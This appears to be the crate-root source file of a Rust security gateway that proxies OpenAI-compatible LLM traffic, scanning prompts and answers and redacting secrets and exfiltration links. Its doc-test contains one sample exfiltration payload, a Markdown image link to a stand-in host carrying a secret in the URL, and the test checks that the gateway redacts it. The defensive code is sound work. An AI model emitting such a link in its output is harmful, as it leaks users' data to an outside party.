//! # parapet-gateway
//!
//! Parapet's OpenAI-compatible security gateway: a reverse proxy that a team puts in front of
//! any LLM server by changing only the client's `base_url`.
//!
//! One request, one direction: HTTP limits → API-key identity ([`identity`]) → every message
//! scanned by role and decided by the policy ([`inspect`]) → blocked (403), redacted before
//! forwarding, flagged or allowed → forwarded to the upstream chosen by model name
//! ([`server`]) → the answer and its tool-call arguments scanned, with Markdown/HTML
//! exfiltration links and the system-prompt canary checked ([`output`]) → redacted or
//! blocked; streamed answers go through the hold-back guard ([`stream`]) so that nothing
//! sensitive reaches the client even when split across chunks.
//!
//! ```
//! use parapet_gateway::config::Config;
//! use parapet_gateway::inspect::{Inspector, Source};
//! use parapet_gateway::output::LinkPolicy;
//! use parapet_core::Verdict;
//! use std::sync::Arc;
//!
//! let cfg = Config::from_toml_str(r#"
//!     auth.required = false
//!     [[upstreams]]
//!     name = "local"
//!     base_url = "http://127.0.0.1:11434/v1"
//!     [[models]]
//!     name = "llama3"
//!     upstream = "local"
//! "#).expect("valid config");
//! assert_eq!(cfg.models[0].upstream, "local");
//!
//! let engine = Arc::new(parapet_detect::Engine::builtin().expect("built-in rules"));
//! let links = LinkPolicy { allowed_domains: vec!["example.com".into()], check_links: true };
//! let insp = Inspector::new(engine, &parapet_policy::Policy::builtin(), links);
//! let c = insp.check("Here: ![x](https://evil.test/p.png?d=secret)", Source::Output, None);
//! assert_eq!(c.decision.verdict, Verdict::Redact);
//! assert_eq!(c.redacted.as_deref(), Some("Here: <EXFIL_IMAGE>"));
//! ```

pub mod anthropic;
mod chat;
mod completions;
pub mod config;
pub mod error;
mod forward;
pub mod identity;
pub mod inspect;
pub mod metrics;
pub mod output;
pub mod ratelimit;
mod relay;
pub mod server;
pub mod sse;
pub mod stream;
pub mod wire;

pub use config::Config;
pub use server::{serve, Gateway, GatewayError};
